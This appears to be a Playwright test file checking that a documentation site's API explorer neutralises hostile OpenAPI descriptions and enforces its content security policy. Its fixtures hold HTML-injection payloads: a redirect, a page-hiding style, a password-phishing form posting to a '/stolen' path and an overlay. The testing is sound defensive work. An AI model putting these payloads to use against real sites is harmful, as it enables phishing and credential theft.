import { rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { testAll } from '../../../scripts/test-all.ts';
import { IS_COMPLETE } from '../../../scripts/test-scope.ts';
import { astroConfig, makeSite } from './harness/astro-site.ts';
import { buildSite } from './harness/build-site.ts';
import { documentedOptions } from './harness/documented-options.ts';
import { type FolderServer, serveFolder } from './harness/serve-folder.ts';
import { type SharedBrowser, shareBrowser } from './harness/share-browser.ts';
import { userApiDescription } from './harness/user-api-description.ts';

/** What would lead away, hide the page, or ask for a password. */
const LEAVES = {
  refresh: (host: string) => `"><meta http-equiv="refresh" content="0;url=${host}/left">`,
  hide: () => '"><style>*{display:none!important}</style>',
  form: (host: string) => `"><form action="${host}/stolen"><input type="password" name="p"></form>`,
  load: (host: string) => `![a](${host}/image.png) <img src="${host}/image.png">`,
  cover: () => '<div class="fixed inset-0 h-screen w-screen z-10 bg-b-1">cover</div>',
};
/** The texts of one description each; all are in one, unless `npm run test:all` tries each alone. */
const HOSTILE: Record<string, (host: string) => string> = IS_COMPLETE
  ? LEAVES
  : {
      leave: (host) =>
        Object.values(LEAVES)
          .map((leave) => leave(host))
          .join(' '),
    };
const SPELLINGS = [
  'x-codeSamples',
  'x-code-samples',
  'x-custom-examples',
  'x-scalar-examples',
  'x-stainless-snippets',
  'x-readme',
];

/** Servers of the description at `/reference`. */
const API_URLS = ['http://127.0.0.1:9', 'https://api.test'];
/** A reference without an explorer. */
const ORDERS = 'openapi: 3.1.0\ninfo: { title: Orders, version: 1.0.0 }\npaths: {}\n';

let root: string;
let server: FolderServer;
let browser: SharedBrowser;
let foreign: Server;
/** Requests for the other host, those included that the policy of a page stops. */
const reached: string[] = [];

/** A sample in the shape that the spelling has. */
function getSample(spelling: string, lang: string): unknown {
  if (spelling === 'x-stainless-snippets') return { [lang]: 'sample' };
  if (spelling === 'x-readme') return { 'code-samples': [{ language: lang, code: 'sample', name: 'n' }] };
  return [{ lang, source: 'sample' }];
}

function hostileApi(host: string, leave: (host: string) => string): object {
  const text = leave(host);
  const operations = SPELLINGS.map((spelling) => [
    `/${spelling}`,
    {
      get: { operationId: spelling, description: text, [spelling]: getSample(spelling, text), responses: {} },
    },
  ]);
  return {
    openapi: '3.1.0',
    info: { title: 'Hostile', version: '1', description: text },
    // The policy allows connections to the servers of the description.
    servers: [{ url: host }],
    paths: {
      ...Object.fromEntries(operations),
      '/external': {
        get: {
          responses: {
            200: {
              description: 'r',
              content: {
                'application/json': {
                  example: { nested: { $ref: `${host}/reference` } },
                  examples: { e: { externalValue: `${host}/value` } },
                },
              },
            },
          },
        },
      },
    },
  };
}

const KIND = {
  openapi: '3.1.0',
  info: { title: 'Kind', version: '1', description: 'A **bold** text, <b>HTML</b> and `<code>`.' },
  servers: [{ url: 'https://api.test' }],
  tags: [{ name: 'pets', 'x-displayName': 'Our pets' }],
  paths: {
    '/pets': {
      get: {
        tags: ['pets'],
        summary: 'List pets',
        'x-codeSamples': [
          { lang: 'Python', source: 'print(1)' },
          { lang: 'Zig', source: 'zig build' },
        ],
        responses: { 200: { $ref: '#/components/responses/Pets' } },
      },
    },
  },
  components: {
    responses: {
      Pets: {
        description: 'All',
        content: { 'application/json': { schema: { $ref: '#/components/schemas/Pet' } } },
      },
    },
    schemas: { Pet: { type: 'object', properties: { nickname: { type: 'string' } } } },
  },
};

beforeAll(async () => {
  foreign = createServer((request, response) => {
    reached.push(request.url ?? '');
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'application/json' })
      .end('{}');
  });
  await new Promise<void>((resolve) => foreign.listen(0, resolve));
  const host = `http://localhost:${(foreign.address() as AddressInfo).port}`;
  const hostile = Object.entries(HOSTILE).map(
    ([name, leave]) => [`${name}.json`, JSON.stringify(hostileApi(host, leave))] as const,
  );
  const sources = ['kind', ...Object.keys(HOSTILE)].map((name) => ({
    path: `${name}.json`,
    base: `/${name}`,
  }));
  const more = JSON.stringify(sources);
  const options = `(({ sources, ...rest }) => ({ ...rest, sources: [...sources, ...${more}], links: 'off' }))(${documentedOptions('explorer')})`;
  root = await makeSite({
    'astro.config.mjs': astroConfig(options),
    'openapi.yaml': await userApiDescription(API_URLS),
    'orders.yaml': ORDERS,
    'kind.json': JSON.stringify(KIND),
    ...Object.fromEntries(hostile),
  });
  const { code, log } = await buildSite(root);
  if (code !== 0) throw new Error(log);
  server = await serveFolder(join(root, 'dist'), "frame-ancestors 'none'");
  browser = await shareBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => foreign?.close(resolve));
  await rm(root, { recursive: true, force: true, maxRetries: 20 });
});

async function openExplorer(name: string): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
  page.on('request', (request) => {
    if (!/^data:/.test(request.url()) && !request.url().startsWith(server.origin))
      reached.push(request.url());
  });
  await page.goto(`${server.origin}/${name}/explorer/`);
  await page.locator('.scalar-app').getByRole('heading', { level: 1 }).first().waitFor();
  return page;
}

test.each(Object.keys(HOSTILE))(
  'a text that would %s does nothing, in any spelling of samples',
  async (name) => {
    const page = await openExplorer(name);
    for (const spelling of SPELLINGS) {
      const path = page.locator('.scalar-app').getByText(`/${spelling}`).last();
      await path.scrollIntoViewIfNeeded();
      // The samples of the operation are drawn.
      await page.locator('.scalar-app .request-card').first().waitFor();
    }
    expect(new URL(page.url()).pathname).toBe(`/${name}/explorer/`);
    expect(await page.getByRole('link', { name: 'Reference', exact: true }).isVisible()).toBe(true);
    await page.getByRole('link', { name: 'Reference', exact: true }).click({ trial: true });
    const made = '[data-cl-explorer] :is(meta, form[action], input[type="password"], .h-screen.w-screen)';
    expect(await page.locator(made).count()).toBe(0);
    expect(reached).toEqual([]);
  },
);

testAll('no form of the page is sent', async () => {
  const page = await openExplorer('kind');
  const { port } = foreign.address() as AddressInfo;
  const directive = await page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
    const form = document.createElement('form');
    form.action = 'http://localhost:${port}/stolen';
    document.body.append(form);
    form.submit();
  })`);
  expect(directive).toBe('form-action');
  expect(reached).toEqual([]);
});

testAll('samples, names and references of a description are shown', async () => {
  const page = await openExplorer('kind');
  const app = page.locator('.scalar-app');
  await app.getByText('List pets').first().click();
  await app.getByText('Our pets').first().waitFor();
  await app.getByText('nickname').first().waitFor();
  await app.locator('b', { hasText: 'HTML' }).first().waitFor();
  const picker = app.getByTestId('client-picker').first();
  await picker.click();
  await page.getByRole('option', { name: 'Python' }).first().waitFor();
  await page.getByRole('option', { name: 'Zig' }).first().click();
  await app.getByText('zig build').first().waitFor();
});

test('the explorer shows the description, in the theme of the reference, without requests to other hosts', async () => {
  const page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
  const requests: string[] = [];
  const problems: string[] = [];
  const blocked: string[] = [];
  page.on('request', (request) => requests.push(request.url().replace(server.origin, '')));
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('console', (message) => {
    if (/violates|Refused/.test(message.text())) blocked.push(message.text());
  });
  await page.goto(`${server.origin}/reference/explorer/`);
  await page.locator('.scalar-app').getByRole('heading', { name: 'Reference User API' }).waitFor();
  expect(await page.title()).toBe('Explorer · Reference User API');
  await page.getByRole('button', { name: 'Dark theme' }).click();
  await page.locator('body.dark-mode').waitFor();
  await page.locator('.scalar-app').getByText('Exchange credentials for a token').first().click();
  await page.waitForURL(/#.*token/);
  expect(requests.filter((url) => !url.startsWith('/') && !url.startsWith('data:'))).toEqual([]);
  expect(requests).toContain('/reference/openapi.json');
  expect(problems).toEqual([]);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const url of API_URLS) expect(policy).toContain(` ${url}`);
  expect(policy).toContain("default-src 'self'");
  const back = page.getByRole('link', { name: 'Reference', exact: true });
  expect(await back.getAttribute('href')).toBe('/reference/');
  expect(blocked.filter((text) => !text.includes('style'))).toEqual([]);
});

test('the overview leads to the explorer, no other page loads any of it, and a source can be without', async () => {
  expect((await fetch(`${server.origin}/orders/`)).status).toBe(200);
  expect((await fetch(`${server.origin}/orders/explorer/`)).status).toBe(404);
  const page = await browser.newPage();
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(`${server.origin}/reference/`);
  expect(await page.getByRole('link', { name: 'Open in the explorer' }).getAttribute('href')).toBe(
    '/reference/explorer/',
  );
  expect(requests.filter((url) => /explorer/i.test(url))).toEqual([]);
});
